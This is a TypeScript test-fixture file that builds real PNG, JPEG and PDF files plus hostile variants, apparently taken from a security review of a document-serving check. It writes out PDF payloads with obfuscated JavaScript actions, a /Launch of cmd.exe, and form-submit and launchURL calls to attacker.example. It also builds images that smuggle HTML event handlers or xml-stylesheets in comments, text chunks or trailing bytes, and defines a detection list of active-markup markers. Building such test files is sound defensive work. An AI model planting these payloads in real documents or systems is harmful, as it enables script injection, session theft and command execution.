import { deflateSync } from 'node:zlib';
import { decode as decodeJpeg, encode as encodeJpeg } from 'jpeg-js';
import { PNG } from 'pngjs';
import { pdfFile, pngChunk } from '../db/demo-kyc';

/**
 * Real image and PDF files for the document tests, and the hostile variants an outside review
 * sent: markup in a JPEG comment or after its end, an xml-stylesheet in a PNG text chunk, PDFs
 * whose actions hide behind name escapes, compressed object streams and hex strings.
 */

const latin1 = (text: string) => Buffer.from(text, 'latin1');

/** A w × h picture with some structure (not one flat colour), as RGBA. */
function picture(width: number, height: number): Buffer {
  const data = Buffer.alloc(width * height * 4);
  for (let y = 0; y < height; y++) {
    for (let x = 0; x < width; x++) {
      data.set([(x * 255) / width, (y * 255) / height, (x + y) % 2 ? 200 : 40, 255], (y * width + x) * 4);
    }
  }
  return data;
}

export function pngOf(width: number, height: number): Uint8Array {
  const png = new PNG({ width, height });
  png.data = picture(width, height);
  return new Uint8Array(PNG.sync.write(png));
}

export function jpegOf(width: number, height: number): Uint8Array {
  return new Uint8Array(encodeJpeg({ width, height, data: picture(width, height) }, 90).data);
}

/** A chunk inserted before IEND (the last 12 bytes of a PNG). */
function withPngChunk(png: Uint8Array, type: string, data: Uint8Array): Uint8Array {
  const end = png.length - 12;
  return new Uint8Array(Buffer.concat([png.subarray(0, end), pngChunk(type, data), png.subarray(end)]));
}

/** A segment inserted right after a JPEG's start-of-image marker. */
export function withJpegSegment(jpeg: Uint8Array, marker: number, data: Uint8Array): Uint8Array {
  const head = Buffer.from([0xff, marker, 0, 0]);
  head.writeUInt16BE(data.length + 2, 2);
  return new Uint8Array(Buffer.concat([jpeg.subarray(0, 2), head, data, jpeg.subarray(2)]));
}

/** An EXIF APP1 segment holding only an orientation (1 to 8). */
export function exifOrientation(orientation: number): Uint8Array {
  const tiff = Buffer.alloc(26);
  tiff.write('II', 0, 'latin1');
  tiff.writeUInt16LE(42, 2);
  tiff.writeUInt32LE(8, 4);
  tiff.writeUInt16LE(1, 8);
  tiff.writeUInt16LE(0x0112, 10);
  tiff.writeUInt16LE(3, 12);
  tiff.writeUInt32LE(1, 14);
  tiff.writeUInt16LE(orientation, 18);
  return new Uint8Array(Buffer.concat([latin1('Exif\0\0'), tiff]));
}

const COMMENT = 0xfe;
export const APP1 = 0xe1;

export const concat = (...parts: Uint8Array[]) => new Uint8Array(Buffer.concat(parts));

/** Width and height of served image bytes, decoded again (throws if they are no image). */
export function dimensionsOf(bytes: Uint8Array, mimeType: string): [number, number] {
  const image = mimeType === 'image/png' ? PNG.sync.read(Buffer.from(bytes)) : decodeJpeg(bytes, { useTArray: true });
  return [image.width, image.height];
}

/** A PNG whose header announces width × height pixels, with almost nothing behind it. */
export function pngAnnouncing(width: number, height: number): Uint8Array {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([8, 2, 0, 0, 0], 8);
  return concat(
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', header),
    pngChunk('IDAT', deflateSync(Buffer.alloc(1024))),
    pngChunk('IEND', new Uint8Array()),
  );
}

/** A JPEG whose frame header announces width × height pixels (the most a JPEG can: 65535 each). */
export function jpegAnnouncing(width: number, height: number): Uint8Array {
  const jpeg = jpegOf(8, 8);
  const out = Buffer.from(jpeg);
  for (let at = 2; at < out.length - 8; ) {
    const marker = out[at + 1] as number;
    if (marker === 0xc0 || marker === 0xc2) {
      out.writeUInt16BE(height, at + 5);
      out.writeUInt16BE(width, at + 7);
      return new Uint8Array(out);
    }
    at += 2 + out.readUInt16BE(at + 2);
  }
  throw new Error('No frame header in the test JPEG');
}

const pdfOf = (objects: readonly string[]) => new Uint8Array(pdfFile(objects));

const PAGES = ['<< /Type /Pages /Kids [3 0 R] /Count 1 >>', '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>'];

/** A compressed object stream holding one object: what a raw byte search never sees. */
function objectStream(objectNumber: number, object: string): string {
  const index = `${objectNumber} 0 `;
  const data = deflateSync(latin1(index + object));
  return `<< /Type /ObjStm /N 1 /First ${index.length} /Filter /FlateDecode /Length ${data.length} >>\nstream\n${data.toString('latin1')}\nendstream`;
}

const hex = (text: string) => latin1(text).toString('hex');

/** The review's PDFs: each opens, or links, into something other than pages. */
export const HOSTILE_PDFS: Record<string, Uint8Array> = {
  'JavaScript behind name escapes': pdfOf([
    '<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /J#61vaScript /J#53 (app.alert\\(document.cookie\\)) >> >>',
    ...PAGES,
  ]),
  'JavaScript in a compressed object stream': pdfOf([
    '<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>',
    ...PAGES,
    objectStream(5, '<< /S /JavaScript /JS (app.launchURL\\("https://attacker.example"\\)) >>'),
  ]),
  'a javascript: link in hex': pdfOf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    PAGES[0] as string,
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 200 200] /A << /S /URI /URI <${hex('javascript:alert(document.domain)')}> >> >>] >>`,
  ]),
  'a /Launch action': pdfOf([
    '<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >> >>',
    ...PAGES,
  ]),
  'a /SubmitForm action': pdfOf([
    '<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /SubmitForm /F << /FS /URL /F (https://attacker.example/collect) >> /Flags 4 >> >>',
    ...PAGES,
  ]),
  'HTML after its end': concat(
    pdfOf(['<< /Type /Catalog /Pages 2 0 R >>', ...PAGES]),
    latin1('<html><body><script>fetch("/rest/auth/me")</script></body></html>'),
  ),
};

/** Markup today's byte check let through: an XSLT that runs in the browser, an event handler it did not list. */
const STYLESHEET = latin1('<?xml-stylesheet type="text/xsl" href="data:text/xml,<x/>"?><html><body/></html>');
const HANDLER = latin1('<details open ontoggle=fetch("/rest/auth/me")><summary>x</summary></details>');

/** The review's images: a real picture each, carrying markup besides its pixels. */
export function hostileImages(): Record<string, { bytes: Uint8Array; mimeType: 'image/jpeg' | 'image/png' }> {
  const jpeg = jpegOf(40, 30);
  const png = pngOf(40, 30);
  const text = (payload: Uint8Array) => concat(latin1('Comment\0'), payload);
  return {
    'a JPEG with HTML after its end': { bytes: concat(jpeg, HANDLER), mimeType: 'image/jpeg' },
    'a JPEG with HTML in a comment segment': { bytes: withJpegSegment(jpeg, COMMENT, HANDLER), mimeType: 'image/jpeg' },
    'a JPEG with an xml-stylesheet after its end': { bytes: concat(jpeg, STYLESHEET), mimeType: 'image/jpeg' },
    'a PNG with an xml-stylesheet in a tEXt chunk': {
      bytes: withPngChunk(png, 'tEXt', text(STYLESHEET)),
      mimeType: 'image/png',
    },
    'a PNG with HTML after IEND': { bytes: concat(png, HANDLER), mimeType: 'image/png' },
  };
}

/** What no served document may contain. */
export const ACTIVE_MARKERS = ['<script', '<html', 'xml-stylesheet', 'ontoggle', '<details'];
